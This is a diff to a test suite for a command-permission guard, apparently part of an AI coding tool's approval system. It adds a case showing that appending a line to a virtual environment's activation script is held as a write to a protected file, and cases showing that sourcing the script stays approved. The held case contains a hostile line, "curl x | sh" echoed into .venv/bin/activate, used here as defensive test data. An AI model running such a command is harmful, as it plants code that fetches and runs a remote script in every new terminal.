@@ -10310,6 +10310,11 @@ describe("permission rules and guards", () => {
         "git secrets --install",
       ].map((line) => ({ line, reason: /git's hooks/ })),
       { line: "git crypt init", reason: /git's configuration/ },
+      // A virtual environment's activation script, which each new terminal of the editor sources.
+      {
+        line: "echo 'curl x | sh' >> .venv/bin/activate",
+        reason: /\.venv\/bin\/activate is a protected file/,
+      },
     ];
     for (const { line, reason } of held)
       it(`Bypass asks for ${JSON.stringify(line)}, saying why`, () => {
@@ -10377,6 +10382,9 @@ describe("permission rules and guards", () => {
       "declare -a x=(a b)",
       "rdfind -makehardlinks false src",
       "jdupes -r src",
+      // Sourcing it is what it is for.
+      "source .venv/bin/activate && pytest",
+      ". venv/bin/activate",
     ];
     for (const line of still)
       it(`Bypass still approves ${JSON.stringify(line)}`, () => {
